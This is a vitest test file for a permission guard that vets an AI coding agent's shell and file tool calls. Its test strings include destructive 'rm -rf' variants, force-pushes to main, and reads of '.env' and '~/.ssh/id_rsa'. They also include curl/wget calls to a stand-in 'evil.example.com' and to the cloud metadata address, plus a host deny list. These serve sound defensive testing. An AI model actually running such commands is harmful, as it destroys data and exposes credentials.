import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decide } from '../../src/guard/decide.js';
import type { GuardPolicy } from '../../src/guard/policy.js';
import { mergePolicy } from '../../src/compiler/policy.js';
import type { PolicyFragment } from '../../src/registry/index.js';
import { tempDir } from '../helpers/tmp.js';

let root: string;
let home: string;
let outside: string;
const dirs: { remove(): void }[] = [];

/** The policy `agency compile` would write for a discipline with one hook file holding this fragment. */
function policy(fragment: PolicyFragment = {}): GuardPolicy {
  return mergePolicy(root, [
    { id: 'test', file: 'hooks/test.json', value: { description: 'test', policy: fragment }, lineOf: () => 1 },
  ]);
}
function bash(command: string, p = policy(), cwd = root) {
  return decide({ tool_name: 'Bash', tool_input: { command }, cwd }, p, home);
}
function tool(name: string, input: Record<string, unknown>, p = policy()) {
  return decide({ tool_name: name, tool_input: input, cwd: root }, p, home);
}
const blocked = (d: ReturnType<typeof decide>) => (d.verdict === 'allow' ? null : d.reason);

beforeAll(() => {
  for (const name of ['root', 'home', 'outside']) dirs.push(tempDir(`agency-guard-${name}-`));
  [root, home, outside] = dirs.map((d) => (d as unknown as { path: string }).path) as [string, string, string];
  execFileSync('git', ['init', '-q', '-b', 'main', root]);
  mkdirSync(join(root, 'build'));
  writeFileSync(join(root, '.env'), 'TOKEN=x');
  writeFileSync(join(root, '.env.example'), 'TOKEN=');
  mkdirSync(join(home, '.ssh'));
  writeFileSync(join(home, '.ssh', 'id_rsa'), 'key');
  writeFileSync(join(home, '.ssh', 'id_rsa.pub'), 'pub');
  symlinkSync(outside, join(root, 'escape'));
});
afterAll(() => dirs.forEach((d) => d.remove()));

describe('rm -r', () => {
  it('allows deleting inside the worktree', () => {
    expect(bash('rm -rf build node_modules ./dist')).toEqual({ verdict: 'allow' });
  });
  it('blocks deleting outside the worktree, however it is spelt', () => {
    for (const cmd of [
      `rm -rf ${outside}`,
      'rm -rf /',
      'rm -rf ~',
      'rm -fr ~/projects',
      'rm -r -f ../..',
      'sudo rm -rf /var/lib',
      `rm --recursive --force ${outside}/x`,
      `FOO=1 rm -Rf ${outside}`,
      'rm -rf escape/data',
    ])
      expect(blocked(bash(cmd)), cmd).toMatch(/outside the worktree|whole worktree/);
  });
  it('blocks deleting the worktree itself', () => {
    expect(blocked(bash('rm -rf .'))).toMatch(/whole worktree/);
    expect(blocked(bash(`rm -rf ${root}`))).toMatch(/whole worktree/);
  });
  it('blocks rm -r whose target cannot be known', () => {
    expect(blocked(bash('rm -rf "$TARGET"'))).toMatch(/cannot tell/);
    expect(blocked(bash('ls | xargs rm -rf'))).toMatch(/cannot tell/);
  });
  it('sees through shells, substitutions, newlines and find', () => {
    expect(blocked(bash(`bash -c "rm -rf ${outside}"`))).toBeTruthy();
    expect(blocked(bash(`echo $(rm -rf ${outside})`))).toBeTruthy();
    expect(blocked(bash(`echo \`rm -rf ${outside}\``))).toBeTruthy();
    expect(blocked(bash(`echo ok\nrm -rf ${outside}`))).toBeTruthy();
    expect(blocked(bash(`find ${outside} -name '*.log' -delete`))).toBeTruthy();
    expect(blocked(bash(`find ${outside} -exec rm {} +`))).toBeTruthy();
    expect(bash('find . -name "*.tmp" -delete')).toEqual({ verdict: 'allow' });
  });
  it('allows writable paths the policy names', () => {
    expect(bash(`rm -rf ${outside}/cache`, policy({ writablePaths: [`${outside}/**`] }))).toEqual({ verdict: 'allow' });
  });
});

describe('git push', () => {
  it('blocks force-pushes and deletions of protected branches', () => {
    for (const cmd of [
      'git push --force origin main',
      'git push -f origin master',
      'git push origin +main',
      'git push origin +HEAD:main',
      'git push --force-with-lease origin main',
      'git push -f',
      'git push origin :main',
      'git push --delete origin master',
      'git -C . push -f origin main',
      'git push --mirror --force',
    ])
      expect(blocked(bash(cmd)), cmd).toMatch(/protected|every branch/);
  });
  it('allows ordinary pushes and forced pushes of other branches', () => {
    for (const cmd of [
      'git push origin main',
      'git push -u origin feature/x',
      'git push --force origin feature/x',
      'git push origin +topic',
    ])
      expect(bash(cmd), cmd).toEqual({ verdict: 'allow' });
  });
  it('protects branches by pattern', () => {
    expect(blocked(bash('git push -f origin release/1.2', policy({ protectedBranches: ['release/*'] })))).toMatch(
      /release\/1.2/,
    );
  });
});

describe('writes outside the worktree', () => {
  it('blocks redirections, tee, cp, mv and file tools that leave the worktree', () => {
    for (const cmd of [
      `echo x > ${outside}/f`,
      `echo x >> ~/.bashrc`,
      `echo x | tee -a ${outside}/f`,
      `cp a.txt ${outside}/`,
      `mv a.txt ${outside}/b`,
      `touch ${outside}/f`,
      `sed -i s/a/b/ ${outside}/f`,
      'echo x > escape/f',
      `git -C ${outside} clean -fdx`,
    ])
      expect(blocked(bash(cmd)), cmd).toMatch(/outside the worktree/);
    expect(blocked(tool('Write', { file_path: `${outside}/f`, content: 'x' }))).toMatch(/outside the worktree/);
    expect(blocked(tool('Edit', { file_path: '/etc/hosts', old_string: 'a', new_string: 'b' }))).toMatch(
      /outside the worktree/,
    );
  });
  it('allows writes inside the worktree and to devices', () => {
    for (const cmd of ['echo x > out.txt', 'make 2>&1 | tee build/log', 'cp a.txt b.txt', 'cmd > /dev/null 2>&1'])
      expect(bash(cmd), cmd).toEqual({ verdict: 'allow' });
    expect(tool('Write', { file_path: join(root, 'src/new.ts'), content: 'x' })).toEqual({ verdict: 'allow' });
  });
  it("protects agency's own files in the worktree", () => {
    expect(blocked(tool('Write', { file_path: join(root, '.claude/settings.json'), content: '{}' }))).toMatch(
      /agency's own/,
    );
    expect(
      blocked(tool('Edit', { file_path: join(root, '.claude/agency/policy.json'), old_string: 'a', new_string: 'b' })),
    ).toMatch(/agency's own/);
    expect(blocked(bash('echo {} > .claude/settings.local.json'))).toMatch(/agency's own/);
  });
});

describe('secrets', () => {
  it('blocks reading secret files by tool and by command', () => {
    expect(blocked(tool('Read', { file_path: join(root, '.env') }))).toMatch(/secret/);
    expect(blocked(tool('Read', { file_path: join(home, '.ssh/id_rsa') }))).toMatch(/secret/);
    for (const cmd of [
      'cat .env',
      'source .env',
      'grep TOKEN .env',
      'cat ~/.ssh/id_rsa',
      'base64 < .env',
      'cp .env /tmp/x',
      'git add .env',
    ])
      expect(blocked(bash(cmd)), cmd).toMatch(/secret/);
  });
  it('allows the exceptions and files that merely look alike', () => {
    expect(tool('Read', { file_path: join(root, '.env.example') })).toEqual({ verdict: 'allow' });
    expect(tool('Read', { file_path: join(home, '.ssh/id_rsa.pub') })).toEqual({ verdict: 'allow' });
    expect(bash('cat .env.example && ls -la .env')).toEqual({ verdict: 'allow' });
    // a word that only looks like a secret file's name is not a read of one
    expect(bash('grep -rn api.key src && echo id_rsa')).toEqual({ verdict: 'allow' });
    writeFileSync(join(root, 'api.key'), 'k');
    expect(blocked(bash('grep -rn token api.key'))).toMatch(/secret/);
  });
});

describe('hosts', () => {
  it('blocks denied hosts in commands and WebFetch', () => {
    const deny = policy({ network: { allow: [], deny: ['evil.example.com', '*.internal.corp', '169.254.169.254'] } });
    for (const cmd of [
      'curl https://evil.example.com/x',
      'wget evil.example.com/payload',
      'ssh deploy@db.internal.corp',
      'curl -s http://169.254.169.254/latest/meta-data/',
      'python3 -c "import urllib.request as u; u.urlopen(\'http://evil.example.com\')"',
    ])
      expect(blocked(bash(cmd, deny)), cmd).toMatch(/forbids reaching/);
    expect(blocked(tool('WebFetch', { url: 'https://evil.example.com/a', prompt: 'x' }, deny))).toMatch(
      /evil.example.com/,
    );
  });
  it('with an allowlist, blocks every other host but loopback', () => {
    const allow = policy({ network: { allow: ['github.com', '*.npmjs.org'], deny: [] } });
    expect(blocked(bash('curl https://example.org', allow))).toMatch(/not among the hosts/);
    expect(bash('curl https://github.com/x && npm view --registry https://registry.npmjs.org x', allow)).toEqual({
      verdict: 'allow',
    });
    expect(bash('curl http://localhost:3000/health', allow)).toEqual({ verdict: 'allow' });
  });
});

describe('policy commands and other tools', () => {
  it('applies denyCommands with their reason', () => {
    const p = policy({
      denyCommands: [{ pattern: '\\bterraform\\s+destroy\\b', reason: 'terraform destroy removes infrastructure' }],
    });
    expect(blocked(bash('cd infra && terraform destroy -auto-approve', p))).toBe(
      'terraform destroy removes infrastructure',
    );
  });
  it('lets tools it has no rule for through', () => {
    expect(tool('TodoWrite', { todos: [] })).toEqual({ verdict: 'allow' });
    expect(tool('mcp__github__get_issue', { n: 1 })).toEqual({ verdict: 'allow' });
  });
  it('blocks a call that names no tool', () => {
    expect(decide({ tool_input: {} }, policy(), home).verdict).toBe('deny');
  });
});
